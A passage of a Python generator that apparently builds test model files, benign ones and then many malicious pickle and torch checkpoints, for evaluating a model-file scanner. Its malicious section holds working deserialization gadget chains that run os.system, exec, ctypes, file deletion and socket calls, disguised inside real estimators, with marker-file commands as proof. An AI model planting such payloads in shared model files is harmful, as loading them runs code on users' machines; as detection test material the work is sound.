    x = L.Conv2D(2, 3, activation="gelu", kernel_regularizer=keras.regularizers.L2(.01))(i)
    x = L.BatchNormalization()(x)
    a, b = L.GlobalAveragePooling2D()(x), L.GlobalMaxPooling2D()(x)
    m = keras.Model(i, L.Dense(2, activation="softmax")(L.Concatenate()([a, b])))
    m.compile(keras.optimizers.SGD(keras.optimizers.schedules.ExponentialDecay(.1, 10, .9)),
              keras.losses.SparseCategoricalCrossentropy())
    m.save(p)


def _tfm():
    import tensorflow as tf
    m = tf.keras.Sequential([tf.keras.layers.Input((4,)), tf.keras.layers.Dense(3, "tanh"), tf.keras.layers.Dense(2)])
    m.compile("sgd", tf.keras.losses.SparseCategoricalCrossentropy(from_logits=True), metrics=["accuracy"])
    return m


H("tf-h5", "F", "keras", "tf.keras.load_model", ".h5")(lambda p: _tfm().save(p))
H("tf-keras", "F", "keras", "tf.keras.load_model", ".keras")(lambda p: _tfm().save(p))
H("tf-sm", "F", "savedmodel", "tf.keras.load_model dir", "/saved_model.pb")(
    lambda p: _tfm().save(os.path.dirname(p), save_format="tf"))


@H("tf-smlow", "F", "savedmodel", "tf.saved_model.load", "/saved_model.pb")
def _(p):
    import tensorflow as tf

    class Mo(tf.Module):
        def __init__(self):
            super().__init__()
            self.v = tf.Variable([2.0])

        @tf.function(input_signature=[tf.TensorSpec([None], tf.float32)])
        def __call__(self, x):
            return x * self.v
    tf.saved_model.save(Mo(), os.path.dirname(p))


def _ggufw(p, tpl=None, extra=None):
    import gguf, numpy as np
    g = gguf.GGUFWriter(p, "llama")
    g.add_name("tiny")
    g.add_block_count(1)
    g.add_context_length(32)
    g.add_tokenizer_model("llama")
    g.add_token_list(["<s>", "</s>", "a", "b"])
    if tpl is not None:
        g.add_chat_template(tpl)
    for k, v in (extra or {}).items():
        g.add_string(k, v)
    g.add_tensor("token_embd.weight", np.ones((4, 8), "f4"))
    g.add_tensor("output.weight", np.ones((4, 8), "f2"))
    g.write_header_to_file()
    g.write_kv_data_to_file()
    g.write_tensors_to_file()
    g.close()


CHATML = ("{% for message in messages %}{{'<|im_start|>' + message['role'] + '\n' + message['content'] + '<|im_end|>' + '\n'}}"
          "{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}")
LLAMA = ("{% if messages[0]['role'] == 'system' %}{% set loop_messages = messages[1:] %}{% set system_message = "
         "messages[0]['content'] %}{% else %}{% set loop_messages = messages %}{% set system_message = false %}{% endif %}"
         "{% for message in loop_messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
         "{{ raise_exception('Conversation roles must alternate user/assistant') }}{% endif %}{% if message['role'] == 'user' %}"
         "{{ bos_token + '[INST] ' + message['content'].strip() + ' [/INST]' }}{% else %}{{ ' ' + message['content'] + "
         "eos_token }}{% endif %}{% endfor %}")
TOOLS = ("{%- macro render(d) %}{%- for k, v in d.items() %}{{ k }}={{ v|tojson }}{%- endfor %}{%- endmacro %}{%- set ns = "
         "namespace(found=false, idx=0) -%}{%- if tools is defined and tools %}{%- for t in tools %}{{ render(t) }}{% endfor %}"
         "{%- endif %}{%- set today = strftime_now('%Y') %}{%- for m in messages|selectattr('role','in',['user','assistant']) %}"
         "{%- set ns.found = true %}{{ '<|' ~ m.role ~ '|>' ~ (m.content|trim) }}{%- endfor %}{{ today }}")
H("gg-none", "M", "gguf", "gguf chat template", ".gguf")(lambda p: _ggufw(p))
H("gg-chatml", "M", "gguf", "gguf chat template", ".gguf")(lambda p: _ggufw(p, CHATML, {"general.license": "mit"}))
H("gg-tools", "M", "gguf", "gguf chat template", ".gguf")(lambda p: _ggufw(p, TOOLS))
H("tk-llama", "M", "tokenizer", "tokenizer chat template", "/tokenizer_config.json")(lambda p: json.dump(
    {"bos_token": "<s>", "eos_token": "</s>", "tokenizer_class": "LlamaTokenizer", "model_max_length": 4096,
     "chat_template": LLAMA}, open(p, "w"), indent=2))
H("tk-list", "M", "tokenizer", "tokenizer chat template", "/tokenizer_config.json")(lambda p: json.dump(
    {"tokenizer_class": "PreTrainedTokenizerFast", "chat_template": [{"name": "default", "template": CHATML}, {
        "name": "tool_use", "template": TOOLS}]}, open(p, "w")))
H("tk-jinja", "M", "tokenizer", "tokenizer chat template", "/chat_template.jinja")(lambda p: w(p, TOOLS.encode()))


@H("tk-fast", "M", "tokenizer", "tokenizers", "/tokenizer.json")
def _(p):
    import tokenizers as t
    k = t.Tokenizer(t.models.BPE(unk_token="<unk>"))
    k.pre_tokenizer = t.pre_tokenizers.Whitespace()
    k.train_from_iterator(["import os and run eval now", "subprocess is a word in a tokenizer"] * 5,
                          t.trainers.BpeTrainer(special_tokens=["<unk>", "<s>"], vocab_size=80))
    k.save(p)


# ---- boosters
def _xgbc():
    import xgboost as x
    return x.XGBClassifier(n_estimators=3, max_depth=2).fit(*XY())


def _lgbc():
    import lightgbm as l
    return l.LGBMClassifier(n_estimators=3, min_child_samples=2, verbose=-1).fit(*XY())


def _cbc():
    import catboost as c
    return c.CatBoostClassifier(iterations=3, depth=2, verbose=0, allow_writing_files=False).fit(*XY())


H("xg-json", "M", "xgboost", "xgboost", ".json")(lambda p: _xgbc().save_model(p))
H("xg-ubj", "M", "xgboost", "xgboost", ".ubj")(lambda p: _xgbc().get_booster().save_model(p))
H("xg-oldbin", "O", "xgboost", "xgboost", ".model")(lambda p: _xgbc().get_booster().save_model(p))
H("xg-pkl", "M", "xgboost", "pickle.load", ".pkl")(lambda p: w(p, pickle.dumps(_xgbc(), 4)))
H("xg-jl", "P", "xgboost", "joblib.load", ".joblib")(lambda p: I("joblib:dump")({"model": _xgbc(), "cols": list("abcd")}, p))
H("xg-bst", "O", "xgboost", "pickle.load", ".dat")(lambda p: w(p, pickle.dumps(_xgbc().get_booster())))
H("lg-txt", "M", "lightgbm", "lightgbm", ".txt")(lambda p: _lgbc().booster_.save_model(p))
H("lg-pkl", "M", "lightgbm", "pickle.load", ".pkl")(lambda p: w(p, pickle.dumps(_lgbc())))
H("lg-jl", "O", "lightgbm", "joblib.load", ".pkl")(lambda p: I("joblib:dump")(_lgbc(), p, compress=3))
H("cb-cbm", "M", "catboost", "catboost", ".cbm")(lambda p: _cbc().save_model(p))
H("cb-json", "M", "catboost", "catboost json", ".json")(lambda p: _cbc().save_model(p, format="json"))
H("cb-pkl", "M", "catboost", "pickle.load", ".pkl")(lambda p: w(p, pickle.dumps(_cbc(), 4)))

# ---- skops, dill, cloudpickle, memmap
H("so-rf", "M", "skops", "skops.io.load trusted", ".skops")(lambda p: I("skops.io:dump")(rf(), p))


@H("so-pipe", "M", "skops", "skops.io.load trusted", ".skops")
def _(p):
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler
    from sklearn.svm import SVC
    I("skops.io:dump")(make_pipeline(StandardScaler(), SVC()).fit(*XY()), p, compression=zipfile.ZIP_DEFLATED)


H("di-lr", "M", "dill", "dill.load", ".dill")(lambda p: I("dill:dump")(lr(), open(p, "wb")))
H("di-old", "O", "dill", "dill.load", ".pkl")(lambda p: I("dill:dump")({"m": rf(), "thr": .4}, open(p, "wb"), protocol=4))
H("cp-rf", "P", "cloudpickle", "pickle.load", ".pkl")(lambda p: w(p, I("cloudpickle:dumps")(rf())))
H("cp-pipe", "M", "cloudpickle", "pickle.load", ".pkl")(lambda p: w(p, I("cloudpickle:dumps")({"m": lr(), "v": (1, 2)})))


@H("jl-mmap", "M", "joblib", "joblib.load mmap", ".joblib")
def _(p):
    import joblib, numpy as np
    joblib.dump({"W": np.random.RandomState(0).rand(200, 20), "ids": np.array(["a", "b"]), "f": np.asfortranarray(
        np.ones((5, 4)))}, p)


@H("jl-obj", "P", "joblib", "joblib.load", ".joblib")
def _(p):
    import joblib, numpy as np
    joblib.dump([np.array(["x", None, 3], dtype=object), np.ones(3, "M8[D]"), np.array(7), np.zeros((0, 4))], p,
                compress=("zlib", 6))


@H("jl-oldfmt", "O", "joblib", "joblib.load", ".gz")
def _(p):
    import joblib
    joblib.dump(rf(8), p)


# ---- plain pickles with configuration in them
@H("cf-types", "M", "config", "pickle.load", ".pkl")
def _(p):
    import datetime as d, decimal, fractions, ipaddress, pathlib, uuid, zoneinfo
    w(p, pickle.dumps({"cols": ["a", "b"], "when": d.datetime(2024, 5, 6, tzinfo=d.timezone.utc), "z": d.datetime(
        2024, 5, 6, tzinfo=zoneinfo.ZoneInfo("Europe/Paris")), "date": d.date(2024, 1, 1), "thr": decimal.Decimal("0.25"),
        "path": pathlib.PurePosixPath("/models/1"), "id": uuid.UUID(int=7), "frac": fractions.Fraction(1, 3),
        "td": d.timedelta(1), "c": collections.Counter("aab"), "o": collections.OrderedDict(a=1), "s": {1, 2},
        "fs": frozenset([3]), "b": bytearray(b"xx"), "cx": 1 + 2j, "dq": collections.deque([1], 3)}, 4))


@H("cf-p0", "O", "config", "pickle.load", ".pkl")
def _(p):
    w(p, pickle.dumps({"vocab": {"the": 1, "eval": 2, "os.system": 3, "import": 4}, "max": 10 ** 30, "f": 0.1, "u": "é\u4e2d"}, 0))


@H("cf-enum", "M", "config", "pickle.load", ".pkl")
def _(p):
    import http, re, logging, enum, string, math
    w(p, pickle.dumps({"status": http.HTTPStatus.OK, "rx": re.compile(r"\d+[a-z]", re.I), "rng": range(3), "sl": slice(1, 2),
                       "agg": [sum, max, len, math.sqrt], "types": {"a": int, "b": float, "c": str},
                       "ns": types.SimpleNamespace(lr=.1)}, 5))


@H("cf-enc", "P", "config", "pickle.load", ".pkl")
def _(p):
    import numpy as np
    from sklearn.preprocessing import LabelEncoder, OrdinalEncoder
    w(p, pickle.dumps({"enc": {c: LabelEncoder().fit(list(c + "xyz")) for c in "ab"}, "ord": OrdinalEncoder().fit([["a"], ["b"]]),
                       "means": np.array([1., 2]), "idx2word": {0: "a", 1: "b"}}, 2))


@H("cf-multi", "M", "config", "pickle.load until EOF", ".pkl")
def _(p):
    with open(p, "wb") as f:
        for o in ({"meta": 1}, lr(), ["a", "b"]):
            pickle.dump(o, f)


@H("cf-gz", "M", "config", "pandas.read_pickle", ".pkl.bz2")
def _(p):
    with bz2.open(p, "wb") as f:
        pickle.dump({"history": {"loss": [.5, .4], "val": [.6, .5]}, "model": rf()}, f)


@H("cf-params", "M", "config", "read", "/config.json")
def _(p):
    json.dump({"model_type": "bert", "hidden_size": 8, "architectures": ["BertModel"], "torch_dtype": "float32",
               "auto_map": {}}, open(p, "w"))


# ---- neighbours of scikit-learn
@H("im-smote", "M", "imblearn", "pickle.load", ".pkl")
def _(p):
    from imblearn.over_sampling import SMOTE
    from imblearn.pipeline import make_pipeline
    from sklearn.linear_model import LogisticRegression
    w(p, pickle.dumps(make_pipeline(SMOTE(random_state=0), LogisticRegression()).fit(*XY()), 4))


@H("im-brf", "O", "imblearn", "joblib.load", ".joblib")
def _(p):
    from imblearn.ensemble import EasyEnsembleClassifier
    I("joblib:dump")(EasyEnsembleClassifier(n_estimators=2).fit(*XY()), p)


@H("ce-te", "P", "category_encoders", "pickle.load", ".pkl")
def _(p):
    import category_encoders as ce, pandas as pd
    w(p, pickle.dumps(ce.TargetEncoder(cols=["c"]).fit(pd.DataFrame({"c": list("abab")}), pd.Series([1, 0, 1, 0])), 4))


@H("sm-ols", "M", "statsmodels", "pickle.load", ".pkl")
def _(p):
    import statsmodels.api as sm
    X, y = XY()
    sm.OLS(y, sm.add_constant(X)).fit().save(p)


@H("sm-glm", "P", "statsmodels", "pickle.load", ".pkl")
def _(p):
    import statsmodels.api as sm
    X, y = XY()
    r = sm.GLM(y, X, family=sm.families.Gaussian()).fit()
    r.save(p, remove_data=True)


# ---- bundles
def _bundle():
    return {"README.md": b"# churn model\n\nLoad with `joblib.load('model.joblib')`. See https://example.org\n",
            "requirements.txt": b"scikit-learn\njoblib\n", "config.json": b'{"threshold": 0.5}', "model.pkl": pickle.dumps(rf(), 4)}


@H("bu-zip", "M", "bundle", "unpack+load", ".zip")
def _(p):
    with zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as z:
        for k, v in _bundle().items():
            z.writestr("churn/" + k, v)


def _tar(p, mode, items, **k):
    with tarfile.open(p, mode, **k) as t:
        for n, v in items.items():
            i = tarfile.TarInfo(n)
            i.size = len(v)
            i.mtime = 1700000000
            t.addfile(i, io.BytesIO(v))


H("bu-tgz", "P", "bundle", "unpack+load", ".tar.gz")(lambda p: _tar(p, "w:gz", {"./m/" + k: v for k, v in _bundle().items()}))
H("bu-txz", "O", "bundle", "unpack+load", ".tar.xz")(lambda p: _tar(p, "w:xz", _bundle(), format=tarfile.PAX_FORMAT))


@H("bu-mlflow", "M", "bundle", "unpack+load", ".zip")
def _(p):
    with zipfile.ZipFile(p, "w", zipfile.ZIP_STORED) as z:
        z.writestr("MLmodel", "artifact_path: model\nflavors:\n  sklearn:\n    pickled_model: model.pkl\n")
        z.writestr("model.pkl", I("cloudpickle:dumps")(lr()))
        z.writestr("conda.yaml", "name: env\ndependencies:\n- python=3.11\n")
        z.writestr("input_example.json", "[[1,2,3,4]]")
        b = io.BytesIO()
        import numpy as np
        np.savez(b, w=np.ones(3))
        z.writestr("extra/weights.npz", b.getvalue())


@H("bu-hf", "M", "bundle", "unpack+load", ".tar")
def _(p):
    import torch
    from safetensors.torch import save
    b = io.BytesIO()
    torch.save(net().state_dict(), b)
    _tar(p, "w", {"model/config.json": b"{}", "model/model.safetensors": save(net().state_dict()),
                  "model/pytorch_model.bin": b.getvalue(), "model/README.md": b"---\nlicense: mit\n---\n"})
# ================================================================== MALICIOUS
def model_with(o, kind=0):
    """an honest-looking artefact that carries o somewhere"""
    return [lambda: o, lambda: {"model": lr(), "meta": o}, lambda: [rf(), {"cols": ["a", "b"], "cb": o}],
            lambda: (o, lr())][kind % 4]()


def red(name, fam, path, *args, proto=4, kind=1, loader="pickle.load", env="M", proof="mark", source=""):
    """pickle.dump of a real model plus an object reducing to path(*args)"""
    def fn(p):
        a = [x() if callable(x) and getattr(x, "lazy", 0) else x for x in args]
        o = model_with(R(I(path), *a), kind)
        w(p, pickle.dumps(o, proto))
    M(name, fam, loader, random.Random(name).choice([".pkl", ".pickle", ".bin", ".sav", ".model"]), env, proof, source)(fn)


def lazy(f):
    f.lazy = 1
    return f


# ---- 1 spawn: process launchers of the standard library
S = "spawn-stdlib"
red("sp-system", S, "os:system", CMD, proto=0, kind=0)
red("sp-popen", S, "subprocess:Popen", ARGV, proto=2)
red("sp-checkout", S, "subprocess:check_output", ARGV, proto=4, kind=2)
red("sp-getstatus", S, "subprocess:getstatusoutput", CMD, proto=5)
red("sp-pty", S, "pty:spawn", ARGV, proto=3)
red("sp-posix", S, "os:posix_spawn", "/usr/bin/touch", ARGV, {}, kind=2)
red("sp-spawnvp", S, "os:spawnvp", 0, "touch", ARGV, proto=1)
red("sp-execvp", S, "os:execvp", "touch", ARGV, kind=3)
red("sp-mputil", S, "multiprocessing.util:spawnv_passfds", b"/usr/bin/touch", [b"touch", b"hE_mark"], [])
red("sp-distutils", S, "distutils.spawn:spawn", ["/usr/bin/touch", "hE_mark"])
red("sp-uuid", S, "uuid:_get_command_stdout", "touch", "hE_mark", proto=2)
red("sp-imap", S, "imaplib:IMAP4_stream", CMD)
red("sp-pager", S, "pydoc:pipepager", "x", CMD)

# ---- 2 eval: functions of the standard library that run code given as text
S = "eval-stdlib"
red("ev-exec", S, "builtins:exec", PY, proto=2, kind=1)
red("ev-eval", S, "builtins:eval", "__import__('os').system('touch hE_mark')", proto=1)
red("ev-timeit", S, "timeit:timeit", PY, "pass", lazy(lambda: I("time:perf_counter")), 1)
red("ev-cprofile", S, "cProfile:run", PY, lazy(lambda: "/dev/null"))
red("ev-bdb", S, "bdb:Bdb.run", lazy(lambda: R(I("bdb:Bdb"))), PY)
red("ev-code", S, "code:InteractiveInterpreter.runsource", lazy(lambda: R(I("code:InteractiveInterpreter"))), PY)
red("ev-trace", S, "trace:Trace.run", lazy(lambda: R(I("trace:Trace"), 0, 0)), PY)
red("ev-runpy", S, "runpy:_run_code", PY, {}, proto=3)
red("ev-doctest", S, "doctest:run_docstring_examples", ">>> open('hE_mark','w').close()\n", {})
red("ev-fwdref", S, "typing:ForwardRef._evaluate", lazy(lambda: R(I("typing:ForwardRef"), "open('hE_mark','w') and int")),
    {}, {}, frozenset())
red("ev-dataclass", S, "dataclasses:_create_fn", "f", ["x=open('hE_mark','w')"], ["return 1"])
red("ev-logcfg", S, "logging.config:dictConfig",
    {"version": 1, "formatters": {"x": {"()": "os.system", "command": CMD}}, "handlers": {}, "root": {}})
red("ev-mpspawn", S, "multiprocessing.spawn:_fixup_main_from_path", "evil_module.py")
red("ev-idle", S, "idlelib.calltip:get_entity", PY)

# ---- 3 files and network: what a load must never do although nothing is "executed"
S = "file-network"
red("fi-open", S, "builtins:open", "hE_mark", "w", proto=2)
red("fi-fileio", S, "_io:FileIO", "hE_mark", "w")
red("fi-path", S, "pathlib:Path.write_text", lazy(lambda: I("pathlib:PosixPath")("hE_mark")), "x")
red("fi-handler", S, "logging:FileHandler", "hE_mark")
red("fi-copy", S, "shutil:copyfile", "/etc/hostname", "hE_mark")
red("fi-unlink", S, "os:unlink", "victim.txt", proof="victim", proto=3)
red("fi-rmtree", S, "shutil:rmtree", "victimdir", proof="victimdir")
red("fi-url", S, "urllib.request:urlopen", "http://127.0.0.1:9/collect", proof="audit:socket.connect", kind=2)
red("fi-sock", S, "socket:create_connection", ("127.0.0.1", 9), proof="audit:socket.connect", proto=2)
red("fi-smtp", S, "smtplib:SMTP", "127.0.0.1", 9, proof="audit:socket.connect")
red("fi-sqlite", S, "sqlite3:connect", "hE_mark")
red("fi-memmap", S, "numpy:memmap", "hE_mark", "u1", "w+", 0, (4,))
red("fi-savetxt", S, "numpy:savetxt", "hE_mark", [1.0])
red("fi-fromregex", S, "pandas:DataFrame.to_csv", lazy(lambda: I("pandas:DataFrame")({"a": [1]})), "hE_mark")

# ---- 4 gadgets inside numpy
S = "gadget-numpy"
red("nu-myeval", S, "numpy.f2py.crackfortran:myeval", "open('hE_mark','w') and 1", proto=2)
red("nu-evalscalar", S, "numpy.f2py.crackfortran:_eval_scalar", "open('hE_mark','w') and 1", {})
red("nu-runstring", S, "numpy.testing._private.utils:runstring", PY, {}, kind=2)
red("nu-measure", S, "numpy.testing:measure", PY)
red("nu-exec", S, "numpy.distutils.exec_command:exec_command", CMD, env="O", proto=4)
red("nu-nm", S, "numpy.distutils.lib2def:getnm", CMD, True, env="O")
red("nu-oldrun", S, "numpy.testing._private.utils:runstring", PY, {}, env="O", proto=2)

# ---- 5 gadgets inside torch
S = "gadget-torch"
T5 = dict(loader="torch.load weights_only=False")


def tred(name, path, *args, new=True, kind=1, **kw):
    def fn(p):
        import torch
        a = [x() if callable(x) and getattr(x, "lazy", 0) else x for x in args]
        sd = net().state_dict()
        o = [{"state_dict": sd, "hyper": R(I(path), *a)}, [R(I(path), *a), sd]][kind - 1]
        torch.save(o, p, _use_new_zipfile_serialization=new)
    M(name, kw.get("fam", "gadget-torch"), "torch.load weights_only=False", kw.get("ext", ".pt"))(fn)


tred("to-collect", "torch.utils.collect_env:run", CMD)
tred("to-execwrap", "torch.jit.unsupported_tensor_ops:execWrapper", PY, {}, {}, kind=2)
tred("to-execsrc", "torch.fx.graph_module:_exec_with_source", PY, {})
tred("to-fwdsrc", "torch.fx.graph_module:_forward_from_src", PY + "\nforward=1", {}, ext=".ckpt")
tred("to-guards", "torch.fx.experimental.symbolic_shapes:ShapeEnv.evaluate_guards_expression",
     lazy(lambda: R(I("torch.fx.experimental.symbolic_shapes:ShapeEnv"))), "open('hE_mark','w')", [])
tred("to-cfg", "torch.utils._config_module:ConfigModule.load_config", lazy(lambda: R(I("builtins:__import__"), "torch")),
     pickle.dumps({"a": R(exec, PY)}), fam="nested-pickle")
tred("to-hub", "torch.hub:_import_module", "hub", "evil_module.py", kind=2)
tred("to-cpp", "torch.utils.cpp_extension:check_compiler_ok_for_platform", "./evil_tool.sh")
tred("to-oplib", "ctypes:CDLL", "./evil_lib.so")
tred("to-ops", "torch.distributed.nn.jit.instantiator:_StringLoader.exec_module",
     lazy(lambda: R(I("torch.distributed.nn.jit.instantiator:_StringLoader"), PY)),
     lazy(lambda: types.SimpleNamespace(__name__="mm")), kind=2)
tred("to-dp", "torch.utils.data.datapipes.datapipe:_DataPipeSerializationWrapper.__setstate__",
     lazy(lambda: R(I("torch.utils.data.datapipes.datapipe:_DataPipeSerializationWrapper"), 1)),
     (pickle.dumps(R(exec, PY)), False), fam="nested-pickle")
tred("to-legacy", "torch.utils.collect_env:run", ARGV, new=False, ext=".bin")

# ---- 6 gadgets in pandas, scipy, scikit-learn, joblib, statsmodels and their friends
S = "gadget-datalibs"

def _kw(name, path, *args, **kw):
    def fn(p):
        k = {a: b() for a, b in kw.items()}
        w(p, pickle.dumps({"m": lr(), "f": R(functools.partial(I(path), **k), *args)}, 4))
    M(name, "gadget-datalibs", "pickle.load", proof="audit:socket.getaddrinfo" if "openml" in path else "mark")(fn)


OSD = lambda: {"os": R(I("importlib:import_module"), "os")}
_kw("da-pdeval", "pandas:eval", "os.system('touch hE_mark')", local_dict=OSD, engine=lambda: "python")
_kw("da-fetch", "sklearn.datasets:fetch_openml", "iris", version=lambda: 1)


@M("da-query", S, "pickle.load")
def _(p):
    import pandas as pd
    f = functools.partial(pd.DataFrame.query, local_dict=OSD(), engine="python")
    w(p, pickle.dumps({"m": lr(), "f": R(f, pd.DataFrame({"a": [0]}), "@os.system('touch hE_mark') == a")}, 4))


red("da-sknews", S, "pandas.compat._optional:import_optional_dependency", "evil_module", kind=2)
red("da-optdep", S, "sklearn.utils._set_output:check_library_installed",
    "evil_module", env="M")
red("da-readpkl", S, "pandas:read_pickle", "evil_inner.pkl", kind=1)
red("da-jlload", S, "joblib:load", "evil_inner.pkl", proto=2)
red("da-loadtxt", S, "scipy._lib.array_api_compat._internal:clone_module",
    "evil_module", {}, kind=2)
red("da-smload", S, "statsmodels.iolib.smpickle:load_pickle", "evil_inner.pkl", env="P", proto=4)
red("da-clip", S, "numpy.ctypeslib:load_library", "evil_lib", ".", proto=4)
red("da-readcsv", S, "pandas:read_csv", "http://127.0.0.1:9/a.csv", proof="audit:socket.connect")

# ---- 7 looking a callable up at run time
S = "lookup-chain"


def asm(name, fam, build, head=b"\x80\x04", tail=b".", loader="pickle.load", ext=".pkl", env="M", proof="mark", model=None, source=""):
    """hand-assembled stream; with model=, the honest pickle of a real estimator is spliced around it"""
    def fn(p):
        b = build() if callable(build) else build
        if model == "before":         # payload, POP, then the honest model
            w(p, head + b + b"0" + pickle.dumps(lr(), 3)[2:])
        elif model == "after":        # honest model, payload, TUPLE2 -> (model, result)
            w(p, head + pickle.dumps(lr(), 3)[2:-1] + b + b"\x86" + tail)
        else:
            w(p, head + b + tail)
    M(name, fam, loader, ext, env, proof, source)(fn)


def lo(name, mk, proto=4, env="M"):
    M(name, "lookup-chain", "pickle.load", ".pkl", env)(lambda p: w(p, pickle.dumps(model_with(mk(), 1), proto)))


lo("lo-importmod", lambda: R(R(getattr, R(I("importlib:import_module"), "os"), "system"), CMD))
lo("lo-resolve", lambda: R(R(I("pkgutil:resolve_name"), "os:system"), CMD))
lo("lo-attrgetter", lambda: R(R(operator.attrgetter("system"), R(__import__, "os")), CMD), 2)
lo("lo-methodcaller", lambda: R(operator.methodcaller("system", CMD), R(__import__, "os")), 3)
lo("lo-locate", lambda: R(R(I("pydoc:locate"), "subprocess.getoutput"), CMD))
lo("lo-item", lambda: R(R(operator.itemgetter("exec"), R(getattr, R(__import__, "builtins"), "__dict__")), PY))
M("lo-torchobj", S, "torch.load weights_only=False", ".pt")(lambda p: I("torch:save")({"w": net().state_dict(), "x": R(R(
    I("torch._dynamo.trace_rules:_load_obj_from_str"), "os.system"), CMD)}, p))
lo("lo-ctypes", lambda: R(R(getattr, R(I("ctypes:CDLL"), None), "system"), b"touch hE_mark"))
lo("lo-pyrun", lambda: R(R(getattr, R(I("ctypes:PyDLL"), None), "PyRun_SimpleString"), PY.encode()))
lo("lo-webbrowser", lambda: R(operator.methodcaller("open", "hE_mark"), R(I("webbrowser:get"), "touch %s")))
asm("lo-dotted", S, SG("torch", "serialization.os.system") + sb(CMD) + b"\x85R", model="before")
asm("lo-dotted2", S, SG("joblib", "numpy_pickle.os.system") + sb(CMD) + b"\x85R", model="after")
asm("lo-builtins", S, SG("builtins", "dict.get") + SG("numpy", "__builtins__") + sb("exec") + b"\x86R" + sb(PY) + b"\x85R",
    model="before")
asm("lo-subcls", S, SG("sklearn.base", "BaseEstimator.get_params.__globals__.__class__.get") +
    SG("sklearn.base", "BaseEstimator.get_params.__globals__") + sb("__builtins__") + b"\x86R0" +
    SG("operator", "getitem") + SG("sklearn.base", "BaseEstimator.get_params.__globals__") + sb("__builtins__") + b"\x86Rq\x00" +
    b"0" + SG("operator", "getitem") + b"h\x00" + sb("exec") + b"\x86R" + sb(PY) + b"\x85R", model="before")

# ---- 8 partial, map, reduce and other ways to delay the call
S = "deferred-iter"
for nm, mk in {
    "pa-partial": lambda: R(functools.partial(os.system, CMD)),
    "pa-map": lambda: R(list, R(map, os.system, [CMD])),
    "pa-starmap": lambda: R(collections.deque, R(I("itertools:starmap"), exec, [(PY,)])),
    "pa-filter": lambda: R(set, R(filter, eval, [PY])),
    "pa-reduce": lambda: R(functools.reduce, functools.partial(os.posix_spawn, "/usr/bin/touch"), [ARGV, {}]),
    "pa-fromkeys": lambda: R(dict.fromkeys, R(map, exec, [PY])),
    "pa-accum": lambda: R(tuple, R(I("itertools:accumulate"), ["touch", ARGV], functools.partial(os.spawnvp, 0))),
    "pa-iter": lambda: R(next, R(iter, functools.partial(exec, PY), 1)),
    "pa-npiter": lambda: R(I("numpy:fromiter"), R(map, os.system, [CMD]), "i8"),
    "pa-pdapply": lambda: R(I("pandas:Series.map"), I("pandas:Series")([CMD]), os.system),
    "pa-thread": lambda: R(operator.methodcaller("start"), R(I("threading:Timer"), 0, exec, [PY])),
    "pa-weakref": lambda: R(I("weakref:finalize"), R(set), os.system, CMD),
    "pa-atexit": lambda: R(I("atexit:register"), exec, PY),
}.items():
    M(nm, S, "pickle.load", ".pkl")(lambda p, mk=mk: w(p, pickle.dumps(model_with(mk(), 1 + len(p) % 2), 4)))

# ---- 9 BUILD: __setstate__, __dict__ and slot state
S = "build-state"
# partial.__setstate__ swaps the function of a harmless partial
asm("bu-partial", S, SG("functools", "partial") + SG("builtins", "len") + b"\x85R" + b"(" + SG("os", "system") + B((CMD,)) +
    b"}" + b"Nt" + b"b" + b")R", model="before")
# slot state setattr on a function object, then dotted lookup through it
asm("bu-slots", S, SG("numpy", "prod") + b"N}" + sb("helper") + SG("numpy", "testing._private.utils.os") + b"s\x86b0" +
    SG("numpy", "prod.helper.system") + sb(CMD) + b"\x85R", model="before")
# monkeypatch a module's attribute by BUILD on the module object, then use the honest global
asm("bu-module", S, SG("importlib", "import_module") + sb("sklearn.base") + b"\x85R" + b"}" + sb("clone") + SG("builtins", "exec") +
    b"sb0" + SG("sklearn.base", "clone") + sb(PY) + b"\x85R", model="before")
# class attribute through slot state: an estimator's __setstate__ becomes exec's partner
asm("bu-class", S, SG("sklearn.base", "ClassifierMixin") + b"N}" + sb("__setstate__") + SG("os", "system") +
    b"s\x86b0" + SG("sklearn.base", "ClassifierMixin") + b")\x81" + sb(CMD) + b"b", model="after")
# default_factory of a defaultdict fired by dict subclass lookup
asm("bu-ddict", S, SG("collections", "defaultdict") + SG("functools", "partial") + SG("os", "system") + sb(CMD) + b"\x86R\x85R" +
    b"q\x010" + SG("operator", "getitem") + b"h\x01" + sb("x") + b"\x86R", model="before")
# BUILD with an object whose __setstate__ loads bytes (torch datapipe wrapper)
asm("bu-datapipe", S, lambda: SG("torch.utils.data.datapipes.datapipe", "_IterDataPipeSerializationWrapper") + b")\x81" +
    bytes_op(pickle.dumps(R(exec, PY))) + b"\x89\x86b", model="after")
# memory: joblib NumpyArrayWrapper-like subclass slot is a callable
asm("bu-sysmod", S, SG("sys", "modules") + sb("harmless") + SG("importlib", "import_module") + sb("os") + b"\x85Rs0" +
    SG("harmless", "system") + sb(CMD) + b"\x85R", model="before")
asm("bu-path", S, SG("sys", "path.insert") + b"K\x00" + sb(".") + b"\x86R0" + SG("evil_module", "x"), model="before")

# ---- 10 INST, OBJ, NEWOBJ, NEWOBJ_EX
S = "inst-obj-newobj"
asm("in-inst", S, b"(" + b"S'" + CMD.encode() + b"'\nios\nsystem\n", head=b"", model=None)
asm("in-inst2", S, b"(" + B(ARGV) + b"isubprocess\nPopen\n", head=b"\x80\x02", model="before")
asm("in-obj", S, b"(" + G("os", "system") + sb(CMD) + b"o", model="after")
asm("in-obj2", S, b"(" + G("subprocess", "Popen") + B(ARGV) + b"o", head=b"\x80\x01", model="before")
asm("in-newobj", S, SG("builtins", "tuple") + SG("builtins", "map") + SG("builtins", "exec") + B([PY]) + b"\x86\x81\x85\x81", model="before")
asm("in-newobjex", S, SG("builtins", "frozenset") + SG("builtins", "map") + SG("os", "system") + B([CMD]) + b"\x86}\x92\x85}\x92",
    model="after")
asm("in-newargs", S, SG("builtins", "bytes") + SG("builtins", "map") + SG("os", "system") + B([CMD]) + b"\x86\x81\x85\x81",
    model="before")

# ---- 11 extension registry
S = "ext-registry"


def ext_(code, reg_, op):
    add = SG("copyreg", "add_extension") + sb("os") + sb("system") + b"J" + struct.pack("<i", code) + b"\x87R0"
    inv = SG("copyreg", "_inverted_registry") + b"J" + struct.pack("<i", code) + sb("os") + sb("system") + b"\x86s0"
    mod = SG("copyreg", "_inverted_registry.update") + b"}" + b"J" + struct.pack("<i", code) + B(("posix", "system")) + b"s\x85R0"
